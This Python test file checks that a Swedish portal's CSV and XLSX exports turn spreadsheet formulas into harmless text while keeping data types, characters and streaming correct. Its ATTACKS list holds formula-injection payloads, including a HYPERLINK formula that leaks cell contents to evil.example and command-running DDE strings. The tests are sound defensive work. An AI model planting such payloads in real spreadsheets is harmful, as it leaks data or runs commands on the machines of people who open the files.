"""Tables out of the portal: CSV for Swedish Excel and XLSX, with nothing a spreadsheet runs."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from lotsportal.spreadsheets import (
    Table,
    csv_response,
    csv_text,
    neutralise,
    restore,
    sheet_names,
    xlsx_bytes,
    xlsx_response,
)

STOCKHOLM = ZoneInfo("Europe/Stockholm")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")',
    "+46 70 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def a_table(rows, *, name="arenden", headers=("Text", "Tal", "Datum")):
    return Table(name=name, title="Ärenden per månad", headers=list(headers), rows=rows)


def read_csv(text):
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def read_xlsx(data):
    return load_workbook(io.BytesIO(data))


# --- CSV ----------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_in_a_csv_cell_is_written_as_plain_text(attack):
    rows = read_csv(csv_text(a_table([[attack, 1, None]])))
    assert rows[1][0] == "'" + attack


def test_csv_numbers_dates_and_booleans_keep_their_meaning():
    when = datetime.datetime(2026, 3, 1, 8, 5, tzinfo=datetime.UTC)
    table = a_table(
        [[-5, -2.5, Decimal("1234.50"), datetime.date(2026, 1, 31), when, True, False, None]],
        headers=["a", "b", "c", "d", "e", "f", "g", "h"],
    )
    (row,) = read_csv(csv_text(table))[1:]
    # Negative numbers are numbers, not formulas; decimals use the Swedish decimal comma.
    assert row == ["-5", "-2,5", "1234,50", "2026-01-31", "2026-03-01 09:05", "Ja", "Nej", ""]


def test_csv_keeps_swedish_characters_and_separators_inside_cells():
    text = csv_text(a_table([["Åre; Älvdalen & Öland", 3, None], ['Säg "hej"\nnu', 4, None]]))
    assert read_csv(text)[1:] == [
        ["Åre; Älvdalen & Öland", "3", ""],
        ['Säg "hej"\nnu', "4", ""],
    ]


def test_csv_response_is_utf8_with_a_bom_and_semicolons_for_swedish_excel():
    response = csv_response(a_table([["Café", 1, None]]), filename="ärenden-2026.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.streaming  # the rows are written while the body is sent
    body = response.getvalue()
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.decode("utf-8-sig").splitlines()[0] == "Text;Tal;Datum"
    assert response["Content-Disposition"] == (
        "attachment; filename=\"arenden-2026.csv\"; filename*=UTF-8''%C3%A4renden-2026.csv"
    )


def test_csv_reads_rows_from_a_one_time_iterator():
    rows = (["rad", n, None] for n in range(3))
    assert len(read_csv(csv_text(a_table(rows)))) == 4


@pytest.mark.parametrize(
    "text", ["=1", "'=1", "''+1", "'", "'citat'", "-", "", "vanlig", "\t", "-5 grader", "@"]
)
def test_restore_undoes_neutralise_exactly(text):
    assert restore(neutralise(text)) == text


def test_text_that_needs_no_apostrophe_is_left_alone():
    assert neutralise("Kommunen") == "Kommunen"
    assert restore("'citat'") == "'citat'"


# --- XLSX ---------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS + ["#N/A", "=", "#DIV/0!"])
def test_a_formula_in_an_xlsx_cell_stays_a_string_with_its_text(attack):
    data = xlsx_bytes([a_table([[attack, 1, None]])])

    cell = read_xlsx(data).active["A3"]
    assert cell.data_type == "s"
    # Everything is kept, a carriage return too: with lxml (a runtime dependency through
    # eark-validator) openpyxl writes it as a character reference that XML keeps.
    assert cell.value == attack
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_xlsx_keeps_numbers_dates_and_booleans_typed():
    aware = datetime.datetime(2026, 6, 1, 10, 30, tzinfo=datetime.UTC)
    table = a_table(
        [[-5, -2.5, Decimal("3.25"), datetime.date(2026, 1, 31), aware, True, None]],
        headers=["a", "b", "c", "d", "e", "f", "g"],
    )
    sheet = read_xlsx(xlsx_bytes([table])).active
    a, b, c, d, e, f, g = sheet[3]

    assert (a.value, a.data_type) == (-5, "n")
    assert (b.value, b.data_type) == (-2.5, "n")
    assert c.value == 3.25 and c.data_type == "n"
    assert d.is_date and d.value == datetime.datetime(2026, 1, 31)
    assert d.number_format == "yyyy-mm-dd"
    # Excel knows no time zones: the time is written as Swedish local time (summer: UTC+2).
    assert e.is_date and e.value == datetime.datetime(2026, 6, 1, 12, 30)
    assert e.number_format == "yyyy-mm-dd hh:mm"
    assert f.value is True and f.data_type == "b"
    assert g.value is None


def test_an_xlsx_sheet_has_the_title_then_a_bold_frozen_header():
    table = a_table([["Bygglov för altan i Överkalix", 12, None]])
    sheet = read_xlsx(xlsx_bytes([table])).active

    assert sheet["A1"].value == "Ärenden per månad" and sheet["A1"].font.b
    assert [c.value for c in sheet[2]] == ["Text", "Tal", "Datum"]
    assert all(c.font.b for c in sheet[2])
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:C3"
    assert sheet["A3"].value == "Bygglov för altan i Överkalix"
    # The widths follow the content, within limits.
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["B"].width >= 8


def test_control_characters_excel_cannot_store_are_dropped_not_fatal():
    sheet = read_xlsx(xlsx_bytes([a_table([["a\x00b\x1bc", 1, None]])])).active
    assert sheet["A3"].value == "abc"


def test_each_table_gets_its_own_sheet_with_a_valid_unique_name():
    long = "arenden_per_handlaggare_och_manad_2026"
    tables = [a_table([], name=n) for n in (long, long, "a/b:c", "", "History", "Arenden")]
    workbook = read_xlsx(xlsx_bytes(tables))

    assert workbook.sheetnames == [
        long[:31],
        long[:29] + "~2",
        "a_b_c",
        "Sheet",
        "History_",
        "Arenden",
    ]
    assert all(len(n) <= 31 for n in workbook.sheetnames)


def test_sheet_names_ignore_case_when_made_unique():
    assert sheet_names(["Data", "data", "DATA"]) == ["Data", "data~2", "DATA~3"]


def test_xlsx_response_headers():
    response = xlsx_response([a_table([["x", 1, None]])], filename="statistik 2026")

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == (
        "attachment; filename=\"statistik-2026.xlsx\"; filename*=UTF-8''statistik%202026.xlsx"
    )
    assert read_xlsx(response.getvalue()).active["A3"].value == "x"


def test_a_file_name_without_any_ascii_letters_still_gets_a_safe_fallback():
    response = csv_response(a_table([]), filename="統計.csv")
    assert response["Content-Disposition"].startswith('attachment; filename="export.csv"; ')


def test_a_workbook_without_tables_is_a_programming_error():
    with pytest.raises(ValueError, match="at least one table"):
        xlsx_bytes([])


# --- Streaming ----------------------------------------------------------------------------


def test_a_csv_download_reads_its_rows_while_it_is_sent(monkeypatch):
    monkeypatch.setattr("lotsportal.spreadsheets.CSV_CHUNK_CHARACTERS", 100)
    read = []

    def rows():
        for n in range(1000):
            read.append(n)
            yield [f"Ärende {n}", n, None]

    response = csv_response(a_table(rows()), filename="arenden.csv")
    assert response.streaming and read == []  # nothing is read before the body is asked for
    chunks = iter(response.streaming_content)
    assert next(chunks) == "\ufeff".encode()
    first = next(chunks).decode()
    assert first.startswith("Text;Tal;Datum\r\nÄrende 0;0;")
    assert 0 < len(read) < 20  # the first piece left with a few rows read, not all 1000
    rest = b"".join(chunks).decode()
    assert len(read) == 1000
    assert len(read_csv(first + rest)) == 1001


def test_a_streamed_csv_keeps_the_language_of_the_request():
    from django.utils import translation

    with translation.override("sv"):
        response = csv_response(a_table([["x", True, None]]), filename="a.csv")
    with translation.override("en"):
        body = response.getvalue().decode("utf-8-sig")
    assert read_csv(body)[1] == ["x", "Ja", ""]


def test_an_xlsx_download_is_a_file_streamed_from_disk():
    response = xlsx_response([a_table([["x", 1, None]] * 3)], filename="statistik")
    assert response.streaming  # a FileResponse over the temporary file
    sheet = read_xlsx(response.getvalue()).active
    assert [c.value for c in sheet[5]] == ["x", 1, None]
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:C5"
    response.file_to_stream.close()
